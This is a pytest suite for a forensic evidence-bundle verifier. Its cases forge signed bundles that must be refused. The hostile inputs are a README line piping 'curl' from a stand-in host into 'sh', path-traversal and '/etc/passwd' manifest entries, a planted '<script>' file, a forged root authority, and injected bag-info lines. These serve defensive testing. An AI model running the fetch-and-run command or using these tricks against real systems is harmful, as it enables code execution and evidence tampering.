"""What a lead could sign and may not send: every signature and digest is right, and the bundle is refused.

The attacker here holds the lead's own key, so that no check of a signature stands in the way of the check that is
meant. Each case is named, and says with which code it is refused; beside some stands what bagit.py says of the same.
"""

from __future__ import annotations

import hashlib
import subprocess
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import bagit
import pytest

from fieldkit import exactjson
from fieldkit.bundle.bag import BAG_INFO, MANIFEST, PADDING, SIGNATURE, TAGMANIFEST
from fieldkit.bundle.readme import commands
from fieldkit.commitments import Opening, make_version
from fieldkit.digest import ZERO_HEX as LINE
from fieldkit.errors import EvidenceError
from fieldkit.keys.anchors import TrustAnchors
from fieldkit.keys.certificates import issue, make_crl, make_root, make_team_ca, new_private_key
from fieldkit.keys.signer import SoftwareSigner
from fieldkit.verify.records import WITHHELD_FORMAT
from tests.hostile.forge import Files, Sealed, custodian_report, reasons, rebag
from tests.unit.bundle.material import archive, entries_of, with_info

Change = Callable[[Files], Mapping[str, bytes]]


def outcome(sealed: Sealed, kind: str, plaintext: bytes, folder: Path) -> set[str]:
    """Why a bundle with this part, under a head that the lead made for it, is refused."""
    files = sealed.rehead({**sealed.files, kind: sealed.seal(kind, plaintext)})
    out = folder / "out"
    out.mkdir(parents=True)
    report = custodian_report(sealed, sealed.write(folder / "stick", files), out)
    if report.outcome == "failed":
        assert not (out / "originals").exists()
        assert not [path for path in out.iterdir() if path.name.startswith(".")]
    assert {path.name for path in folder.iterdir()} == {"stick", "out"}
    return reasons(report)


def test_made_anew_without_a_change_it_is_accepted(sealed: Sealed, tmp_path: Path) -> None:
    """Else none of the refusals below would mean anything."""
    for kind in ("alerts", "records", "identities", "media-0001"):
        assert outcome(sealed, kind, rebag(entries_of(sealed.plain(kind)), sealed), tmp_path / kind) == set()


CHAIN = "custody/" + "0" * 32
NAMES = [
    ("fetch.txt", b"http://example.org/x 1 data/x\n", "bag-strange"),
    ("manifest-md5.txt", b"", "bag-strange"),
    ("tagmanifest-sha512.txt", b"", "bag-strange"),
    ("extra.txt", b"hello", "bag-strange"),
    ("custody/readme.html", b"<script>", "bag-strange"),
    ("trust/other.pem", b"", "bag-strange"),
    ("trust/as-of/more.pem", b"", "bag-strange"),
    ("trust/as-of/roots-and-crls.pem.old", b"", "bag-strange"),
    ("data/more.jsonl", b"", "bag-strange"),
    ("data/" + "0" * 32, b"an original among the records", "bag-strange"),
    ("data/versions.jsonl/x", b"", "zip-names"),
]


@pytest.mark.parametrize(("name", "data", "code"), NAMES, ids=[name for name, _, _ in NAMES])
def test_a_listed_file_that_has_no_place(sealed: Sealed, name: str, data: bytes, code: str, tmp_path: Path) -> None:
    files = {**entries_of(sealed.plain("records")), name: data}
    assert code in outcome(sealed, "records", rebag(files, sealed), tmp_path)


@pytest.mark.parametrize("kind", ["alerts", "identities", "media-0001"])
def test_a_chain_outside_the_records_part(sealed: Sealed, kind: str, tmp_path: Path) -> None:
    files = {**entries_of(sealed.plain(kind)), f"{CHAIN}.txt": b""}
    assert "bag-strange" in outcome(sealed, kind, rebag(files, sealed), tmp_path)


README_LIES: list[tuple[str, Callable[[bytes], bytes]]] = [
    ("without-the-revocation-lists", lambda text: text.replace(b" -crl_check_all", b"")),
    ("with-another-command", lambda text: text + b"$ curl -s http://example.org/x | sh\n"),
    ("with-a-sentence-that-excuses", lambda text: text + b"A line that says FAILED is normal.\n"),
    ("empty", lambda text: b""),
]


@pytest.mark.parametrize("kind", ["records", "identities", "media-0001"])
@pytest.mark.parametrize(("lie", "change"), README_LIES, ids=[lie for lie, _ in README_LIES])
def test_a_readme_whose_commands_a_court_would_run_says_what_the_format_says(
    sealed: Sealed, kind: str, lie: str, change: Callable[[bytes], bytes], tmp_path: Path
) -> None:
    files = entries_of(sealed.plain(kind))
    files["readme.txt"] = change(files["readme.txt"])
    assert "bag-readme" in outcome(sealed, kind, rebag(files, sealed), tmp_path)


def test_a_part_without_its_readme(sealed: Sealed, tmp_path: Path) -> None:
    files = {name: data for name, data in entries_of(sealed.plain("records")).items() if name != "readme.txt"}
    assert "bag-readme" in outcome(sealed, "records", rebag(files, sealed), tmp_path)


ROOTS = "trust/as-of/roots-and-crls.pem"


def _thief(sealed: Sealed) -> tuple[SoftwareSigner, bytes]:
    """A lead under a root that somebody made, and that root with its lists."""
    at = sealed.head.terms.sealed
    root = make_root("Archive", at, 10)
    team = make_team_ca(root, "Heron", at, root.until)
    key = new_private_key()
    certificate = issue(team, key.public_key(), code="H-66", role="lead", now=at, until=root.until)
    lists = (make_crl(root, at, root.until), make_crl(team, at, root.until))
    return SoftwareSigner(key, certificate, (team.certificate,)), TrustAnchors((root.certificate,), lists).pem()


@pytest.mark.parametrize("place", ["before", "after", "instead"])
@pytest.mark.parametrize("kind", ["records", "identities", "media-0001"])
def test_a_part_that_brings_a_root_of_its_own(sealed: Sealed, kind: str, place: str, tmp_path: Path) -> None:
    """The part is the lead's; but the stock command, with the roots that came along, would believe a thief's too."""
    files = entries_of(sealed.plain(kind))
    thief, root = _thief(sealed)
    own = TrustAnchors.from_pem(files[ROOTS])
    foreign = TrustAnchors.from_pem(root)
    roots = {"before": foreign.roots + own.roots, "after": own.roots + foreign.roots, "instead": foreign.roots}[place]
    files[ROOTS] = TrustAnchors(roots, own.crls + foreign.crls).pem()
    assert "bag-anchors" in outcome(sealed, kind, rebag(files, sealed), tmp_path)
    (tmp_path / "unpacked" / "trust" / "as-of").mkdir(parents=True)
    (tmp_path / "unpacked" / ROOTS).write_bytes(files[ROOTS])
    (tmp_path / "unpacked" / TAGMANIFEST).write_bytes(b"the thief's list")
    p7s = thief.sign_cms(b"the thief's list", sealed.head.terms.sealed)
    (tmp_path / "unpacked" / SIGNATURE).write_bytes(p7s)
    count, _, stock = (one for one in commands(files["readme.txt"]) if "trust/as-of" in one)
    unpacked = tmp_path / "unpacked"
    assert subprocess.run(["bash", "-c", stock], cwd=unpacked, capture_output=True, check=False).returncode == 0
    counted = subprocess.run(["bash", "-c", count], cwd=unpacked, capture_output=True, text=True, check=False).stdout
    assert counted == ("1\n" if place == "instead" else "2\n")


def test_a_part_whose_roots_do_not_read(sealed: Sealed, tmp_path: Path) -> None:
    """Among them the label that openssl takes for a root and that this format does not have."""
    for number, change in enumerate((b"BEGIN TRUSTED CERT", b"BEGIN X509 CERT")):
        files = entries_of(sealed.plain("records"))
        files[ROOTS] = files[ROOTS].replace(b"BEGIN CERT", change)
        assert "anchors-malformed" in outcome(sealed, "records", rebag(files, sealed), tmp_path / str(number))


def test_a_line_of_withheld_that_belongs_to_no_version(sealed: Sealed, tmp_path: Path) -> None:
    """Signed for, and yet nothing that could ever be asked for: it may not swell what consent seems to keep back."""
    files = entries_of(sealed.plain("records"))
    record = next(iter(files["data/versions.jsonl"].split(b'"record":"')[1:]))[:32].decode()
    line = {"format": WITHHELD_FORMAT, "record": record, "digest": "f" * 64, "why": "consent"}
    files["data/withheld.jsonl"] += exactjson.dumps(line) + b"\n"
    assert "withheld-stray" in outcome(sealed, "records", rebag(files, sealed), tmp_path)


def _bag(sealed: Sealed, kind: str = "records") -> Files:
    return entries_of(sealed.plain(kind))


def _sign(files: Files, sealed: Sealed) -> bytes:
    """Sign the tagmanifest as it stands in ``files``."""
    p7s = sealed.deployment.signer.sign_cms(files[TAGMANIFEST], sealed.head.terms.sealed)
    return archive({**files, SIGNATURE: p7s})


def test_a_file_that_is_not_listed(sealed: Sealed, tmp_path: Path) -> None:
    files = {**_bag(sealed), "extra.txt": b"hello"}
    assert "bag-files" in outcome(sealed, "records", _sign(files, sealed), tmp_path)


def test_an_original_that_is_not_listed_is_accepted_by_nobody(sealed: Sealed, tmp_path: Path) -> None:
    files = {**_bag(sealed, "media-0001"), "data/" + "0" * 32: b"planted"}
    assert "bag-files" in outcome(sealed, "media-0001", _sign(files, sealed), tmp_path / "ours")
    assert not _bagit_accepts(_sign(files, sealed), tmp_path / "theirs")


def test_a_listed_file_that_is_missing(sealed: Sealed, tmp_path: Path) -> None:
    files = _bag(sealed)
    del files["data/withheld.jsonl"]
    assert "bag-files" in outcome(sealed, "records", _sign(files, sealed), tmp_path)


@pytest.mark.parametrize("name", ["bagit.txt", BAG_INFO, MANIFEST, TAGMANIFEST, SIGNATURE])
def test_a_bag_without_one_of_its_own_files(sealed: Sealed, name: str, tmp_path: Path) -> None:
    files = _bag(sealed)
    del files[name]
    found = outcome(sealed, "records", archive(files), tmp_path)
    assert found & {"bag-missing", "bag-files"}


def _with_manifest(files: Files, manifest: bytes, sealed: Sealed) -> bytes:
    tagged = files[TAGMANIFEST].decode("ascii").splitlines(keepends=True)
    lines = [line for line in tagged if not line.endswith(f"  {MANIFEST}\n")]
    lines.append(f"{hashlib.sha256(manifest).hexdigest()}  {MANIFEST}\n")
    return _sign({**files, MANIFEST: manifest, TAGMANIFEST: "".join(lines).encode()}, sealed)


MANIFESTS: list[tuple[str, Callable[[bytes], bytes], str]] = [
    ("a-name-twice", lambda text: text + text.splitlines(keepends=True)[0], "bag-manifest"),
    ("one-space", lambda text: text.replace(b"  ", b" "), "bag-manifest"),
    ("binary-mark", lambda text: text.replace(b"  ", b" *"), "bag-manifest"),
    ("windows-line-ends", lambda text: text.replace(b"\n", b"\r\n"), "bag-manifest"),
    ("no-last-line-end", lambda text: text[:-1], "bag-manifest"),
    ("upper-case-digest", lambda text: text[:64].upper() + text[64:], "bag-manifest"),
    ("an-empty-line", lambda text: text + b"\n", "bag-manifest"),
    ("escaped-name", lambda text: text.replace(b"data/versions", b"data%2Fversions"), "bag-manifest"),
    ("a-name-that-leaves", lambda text: text + f"{LINE}  data/../../x\n".encode(), "bag-files"),
    ("an-absolute-name", lambda text: text + f"{LINE}  /etc/passwd\n".encode(), "bag-files"),
    ("payload-outside-data", lambda text: text + f"{LINE}  readme.txt\n".encode(), "bag-files"),
    ("another-digest", lambda text: (b"0" if text[:1] != b"0" else b"1") + text[1:], "bag-digest"),
    ("not-ascii", lambda text: text.replace(b"data/versions", "data/v\u00e9rsions".encode()), "bag-manifest"),
    ("empty", lambda text: b"", "bag-files"),
]  # fmt: skip


@pytest.mark.parametrize(("change", "code"), [case[1:] for case in MANIFESTS], ids=[case[0] for case in MANIFESTS])
def test_a_manifest(sealed: Sealed, change: Callable[[bytes], bytes], code: str, tmp_path: Path) -> None:
    files = _bag(sealed)
    assert code in outcome(sealed, "records", _with_manifest(files, change(files[MANIFEST]), sealed), tmp_path)


def test_payload_listed_as_a_tag_file(sealed: Sealed, tmp_path: Path) -> None:
    files = _bag(sealed)
    line = next(line for line in files[MANIFEST].splitlines(keepends=True) if b"withheld" in line)
    files[TAGMANIFEST] += line
    assert "bag-files" in outcome(sealed, "records", _sign(files, sealed), tmp_path / "both")
    moved = _with_manifest(files, files[MANIFEST].replace(line, b""), sealed)
    assert "bag-files" in outcome(sealed, "records", moved, tmp_path / "moved")


INFO = [
    ("another-id", {"External_Identifier": "0" * 32}, "bundle-mixed"),
    ("another-kind", {"Fieldkit_Part": "alerts"}, "bundle-mixed"),
    ("another-sequence", {"Fieldkit_Sequence": "2"}, "bundle-mixed"),
    ("another-previous", {"Fieldkit_Previous": f"sha256:{LINE}"}, "bundle-mixed"),
    ("another-purpose", {"Fieldkit_Purpose": "press"}, "bundle-mixed"),
    ("another-time", {"Fieldkit_Sealed": "2026-01-01T00:00:00+00:00"}, "bundle-mixed"),
    ("another-signer", {"Fieldkit_Signer": LINE}, "bundle-mixed"),
    ("other-recipients", {"Fieldkit_Recipients_records": f"sha256:{LINE}"}, "bundle-mixed"),
    ("another-transport", {"Fieldkit_Recipients_transport": f"sha256:{LINE}"}, "bundle-mixed"),
    ("another-count", {"Payload_Oxum": "1.3"}, "bag-info"),
]


@pytest.mark.parametrize(("lines", "code"), [case[1:] for case in INFO], ids=[case[0] for case in INFO])
def test_bag_info_that_says(sealed: Sealed, lines: dict[str, str], code: str, tmp_path: Path) -> None:
    files = with_info(_bag(sealed), **lines)
    assert code in outcome(sealed, "records", rebag(files, sealed, count=False), tmp_path)


@pytest.mark.parametrize("more", [b"Fieldkit-Part: records\n", b"no colon\n", b" folded\n", b"\n", b"A: b\r\n"])
def test_bag_info_that_reads_in_two_ways(sealed: Sealed, more: bytes, tmp_path: Path) -> None:
    files = _bag(sealed)
    files[BAG_INFO] += more
    assert "bag-info" in outcome(sealed, "records", rebag(files, sealed), tmp_path)


def test_bag_info_with_letters_that_some_take_for_line_ends(sealed: Sealed, tmp_path: Path) -> None:
    files = _bag(sealed)
    files[BAG_INFO] += "Note: one\u2028Fieldkit-Part: media\n".encode()
    assert outcome(sealed, "records", rebag(files, sealed), tmp_path) == set()


def test_another_version_of_bagit(sealed: Sealed, tmp_path: Path) -> None:
    files = {**_bag(sealed), "bagit.txt": b"BagIt-Version: 0.97\nTag-File-Character-Encoding: UTF-8\n"}
    assert "bag-version" in outcome(sealed, "records", rebag(files, sealed), tmp_path)


def test_a_message_in_the_padding(sealed: Sealed, tmp_path: Path) -> None:
    files = _bag(sealed)
    files[PADDING] = files[PADDING][:-1] + b"x"
    assert "bag-padding" in outcome(sealed, "records", rebag(files, sealed), tmp_path)


def test_a_part_without_its_trust_anchors(sealed: Sealed, tmp_path: Path) -> None:
    files = {name: data for name, data in _bag(sealed).items() if not name.startswith("trust/")}
    assert "bag-missing" in outcome(sealed, "records", rebag(files, sealed), tmp_path)


def test_a_part_signed_at_another_time_than_its_head(sealed: Sealed, tmp_path: Path) -> None:
    files = _bag(sealed)
    earlier = sealed.head.terms.sealed.replace(second=(sealed.head.terms.sealed.second + 1) % 60)
    p7s = sealed.deployment.signer.sign_cms(files[TAGMANIFEST], earlier)
    assert "bundle-mixed" in outcome(sealed, "records", archive({**files, SIGNATURE: p7s}), tmp_path)


def _lines(sealed: Sealed, name: str, change: Callable[[list[bytes]], list[bytes]]) -> bytes:
    files = _bag(sealed)
    files[name] = b"".join(change(files[name].splitlines(keepends=True)))
    return rebag(files, sealed)


def _chain(sealed: Sealed, suffix: str) -> str:
    return next(name for name in _bag(sealed) if name.startswith("custody/") and name.endswith(suffix))


RECORDS: list[tuple[str, str, Callable[[list[bytes]], list[bytes]], str]] = [
    ("a-version-twice", "data/versions.jsonl", lambda lines: [*lines, lines[0]], "version-repeated"),
    ("a-version-left-out", "data/versions.jsonl", lambda lines: lines[:-1], "opening-stray"),
    ("a-version-cut", "data/versions.jsonl", lambda lines: [*lines[:-1], lines[-1][:-1]], "lines-truncated"),
    ("an-opening-twice", "data/openings.jsonl", lambda lines: [*lines, lines[0]], "opening-repeated"),
    ("an-opening-left-out", "data/openings.jsonl", lambda lines: lines[1:], "opening-missing"),
    ("an-opening-altered", "data/openings.jsonl", lambda lines: [b'["' + (b"0" * 32) + lines[0][34:], *lines[1:]],
     "opening-missing"),
    ("not-withheld-and-not-here", "data/withheld.jsonl", lambda lines: lines[1:], "opening-missing"),
    ("withheld-for-no-known-reason", "data/withheld.jsonl",
     lambda lines: [lines[0].replace(b'"consent"', b'"whim"').replace(b'"identities"', b'"whim"'), *lines[1:]],
     "withheld-malformed"),
    ("withheld-twice", "data/withheld.jsonl", lambda lines: [*lines, lines[0]], "withheld-malformed"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "change", "code"), [case[1:] for case in RECORDS], ids=[case[0] for case in RECORDS])
def test_records(
    sealed: Sealed, name: str, change: Callable[[list[bytes]], list[bytes]], code: str, tmp_path: Path
) -> None:
    assert code in outcome(sealed, "records", _lines(sealed, name, change), tmp_path)


def test_a_stray_opening(sealed: Sealed, tmp_path: Path) -> None:
    stray = Opening.make("0" * 32, "what", "never committed").text
    part = _lines(sealed, "data/openings.jsonl", lambda lines: [*lines, stray])
    assert "opening-stray" in outcome(sealed, "records", part, tmp_path)


def test_a_version_that_no_line_names(sealed: Sealed, tmp_path: Path) -> None:
    """A record slipped in at sealing, with openings and all."""
    new = make_version("0" * 32, {"kind": "event", "what": "never happened"}).version
    files = _bag(sealed)
    files["data/versions.jsonl"] += new.line.text
    files["data/openings.jsonl"] += b"".join(opening.text for opening in new.openings)
    assert "versions" in outcome(sealed, "records", rebag(files, sealed), tmp_path)


CHAINS: list[tuple[str, str, Callable[[list[bytes]], list[bytes]], str]] = [
    ("a-line-left-out", ".txt", lambda lines: lines[:8] + lines[10:], "custody-links"),
    ("the-last-line-left-out", ".txt", lambda lines: lines[:-2], "custody-links"),
    ("two-lines-swapped", ".txt", lambda lines: lines[:8] + lines[10:12] + lines[8:10] + lines[12:], "custody-links"),
    ("a-line-twice", ".txt", lambda lines: lines[:8] + lines[6:8] + lines[8:], "custody-links"),
    ("no-signature-at-the-end", ".txt", lambda lines: lines[:-1], "chain-truncated"),
    ("a-signature-of-another-line", ".txt", lambda lines: [*lines[:9], lines[11], *lines[10:]], "signature-invalid"),
    ("no-lines", ".txt", lambda lines: [], "custody-links"),
    ("a-body-of-another-line", ".bodies.jsonl", lambda lines: [b'["' + b"0" * 32 + lines[0][34:], *lines[1:]],
     "body-stray"),
    ("no-certificates", ".certs.pem", lambda lines: [], "custody-signatures"),
]  # fmt: skip


@pytest.mark.parametrize(("suffix", "change", "code"), [case[1:] for case in CHAINS], ids=[case[0] for case in CHAINS])
def test_custody(
    sealed: Sealed, suffix: str, change: Callable[[list[bytes]], list[bytes]], code: str, tmp_path: Path
) -> None:
    found = outcome(sealed, "records", _lines(sealed, _chain(sealed, suffix), change), tmp_path)
    assert code in found or (code == "signature-invalid" and "custody-signatures" in found)


def test_lines_without_their_bodies_are_not_passed_as_signed_by_who_acted(sealed: Sealed, tmp_path: Path) -> None:
    """A line says who acted only in its body: without it the signature still counts, and the report asks."""
    files = _bag(sealed)
    bodies = _chain(sealed, ".bodies.jsonl")
    kept = [line for line in files[bodies].splitlines(keepends=True) if b'"unlocked"' not in line]
    assert len(kept) < files[bodies].count(b"\n")
    part = rebag({**files, bodies: b"".join(kept)}, sealed)
    reheaded = sealed.rehead({**sealed.files, "records": sealed.seal("records", part)})
    report = custodian_report(sealed, sealed.write(tmp_path / "stick", reheaded))
    [check] = [one for one in report.checks if one.code == "custody-signatures"]
    assert check.status == "ask"
    text = files[_chain(sealed, ".txt")].splitlines(keepends=True)
    lines = [index for index, line in enumerate(text[::2]) if _body_of(line) not in _digests(kept)]
    forged = list(text)
    forged[2 * lines[0] + 1] = text[2 * lines[0] + 3]
    part = rebag({**files, bodies: b"".join(kept), _chain(sealed, ".txt"): b"".join(forged)}, sealed)
    assert "custody-signatures" in outcome(sealed, "records", part, tmp_path / "forged")


def _body_of(line: bytes) -> str:
    return str(exactjson.loads_object(line.rstrip(b"\n"))["body"])


def _digests(lines: list[bytes]) -> set[str]:
    return {hashlib.sha256(line).hexdigest() for line in lines}


def test_an_original_that_is_not_the_one_that_was_collected(sealed: Sealed, tmp_path: Path) -> None:
    files = _bag(sealed, "media-0001")
    name = next(name for name in files if name.startswith("data/"))
    files[name] += b"x"
    part = rebag(files, sealed)
    assert "originals" in outcome(sealed, "media-0001", part, tmp_path)


def test_an_original_that_no_record_names(sealed: Sealed, tmp_path: Path) -> None:
    files = _bag(sealed, "media-0001")
    files["data/" + "0" * 32] = b"planted"
    part = rebag(files, sealed)
    assert "originals" in outcome(sealed, "media-0001", part, tmp_path)


def test_two_originals_of_one_record(sealed: Sealed, tmp_path: Path) -> None:
    """In two parts: the one that is checked last must not stand for both."""
    head = sealed.head
    [media] = [part for part in head.parts if part.kind == "media"]
    twin = replace(media, name=media.name.replace("0001", "0002"))
    files = sealed.rehead(
        {**sealed.files, "media-0002": sealed.files["media-0001"]},
        change=lambda one: replace(one, parts=(*one.parts, twin)),
    )
    assert "original-repeated" in reasons(custodian_report(sealed, sealed.write(tmp_path / "stick", files)))


def _sealed_at(sealed: Sealed, text: str) -> Files:
    """A head that claims this time, signed now."""
    moment = datetime.fromisoformat(text)
    return sealed.rehead(
        sealed.files,
        signed_at=sealed.head.terms.sealed,
        change=lambda head: replace(head, terms=replace(head.terms, sealed=moment)),
    )


@pytest.mark.parametrize("text", ["0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59"])
def test_a_claimed_time_at_an_end_of_the_calendar_does_not_read(sealed: Sealed, text: str) -> None:
    """Sums with it overflow in other people's code."""
    with pytest.raises(EvidenceError) as found:
        _sealed_at(sealed, text)
    assert found.value.code == "head-malformed"


@pytest.mark.parametrize("text", ["1900-01-01T00:00:00+23:59", "1969-12-31T23:59:59Z", "9000-12-31T23:59:59-23:59"])
def test_a_claimed_time_when_no_certificate_stood(sealed: Sealed, text: str, tmp_path: Path) -> None:
    stick = sealed.write(tmp_path / "stick", _sealed_at(sealed, text))
    assert "head-signature" in reasons(custodian_report(sealed, stick))


def test_a_purpose_of_two_lines(sealed: Sealed, tmp_path: Path) -> None:
    """It would write lines of its own into every bag-info."""
    for purpose in ("court\nFieldkit-Part: media", "court\u2028x", "\x1b[2J", "x" * 501):
        with pytest.raises(Exception, match="head does not read"):
            sealed.rehead(
                sealed.files,
                change=lambda head, text=purpose: replace(head, terms=replace(head.terms, purpose=text)),  # type: ignore[misc]  # bound at once
            )


def test_a_head_without_a_tip_or_with_two_for_one_chain(sealed: Sealed) -> None:
    """Without one a bundle would belong to no chain and follow no other."""
    for change in (lambda head: replace(head, tips=()), lambda head: replace(head, tips=head.tips * 2)):
        with pytest.raises(Exception, match="head does not read"):
            sealed.rehead(sealed.files, change=change)


def _bagit_accepts(plaintext: bytes, folder: Path) -> bool:
    folder.mkdir(parents=True)
    (folder / "part.zip").write_bytes(plaintext)
    with zipfile.ZipFile(folder / "part.zip") as part:
        part.extractall(folder / "bag")
    try:
        return bool(bagit.Bag(str(folder / "bag")).validate())
    except bagit.BagError:
        return False


PEER: list[tuple[str, Change]] = [
    ("a-tag-file-that-is-not-listed", lambda files: {**files, "extra.txt": b"hello"}),
    ("a-script-beside-the-payload", lambda files: {**files, "custody/readme.html": b"<script>"}),
    ("bag-info-of-another-bundle", lambda files: with_info(files, External_Identifier="0" * 32)),
    ("a-message-in-the-padding", lambda files: {**files, PADDING: files[PADDING][:-1] + b"x"}),
    ("an-older-version-of-bagit",
     lambda files: {**files, "bagit.txt": b"BagIt-Version: 0.97\nTag-File-Character-Encoding: UTF-8\n"}),
    ("no-trust-anchors", lambda files: {name: data for name, data in files.items() if not name.startswith("trust/")}),
]  # fmt: skip


@pytest.mark.peer
@pytest.mark.parametrize("change", [case[1] for case in PEER], ids=[case[0] for case in PEER])
def test_what_bagit_accepts_and_we_refuse(sealed: Sealed, change: Change, tmp_path: Path) -> None:
    """bagit.py reads a bag; what a part may be is narrower. It is a peer here, never the verifier."""
    files = change(_bag(sealed))
    unlisted = "extra.txt" in files
    part = _sign(dict(files), sealed) if unlisted else rebag(files, sealed)
    assert _bagit_accepts(part, tmp_path / "theirs")
    assert outcome(sealed, "records", part, tmp_path / "ours")


@pytest.mark.peer
def test_bagit_accepts_what_nobody_signed(sealed: Sealed, tmp_path: Path) -> None:
    files = {**_bag(sealed)}
    del files[SIGNATURE]
    part = archive(files)
    assert _bagit_accepts(part, tmp_path / "theirs")
    assert "bag-missing" in outcome(sealed, "records", part, tmp_path / "ours")
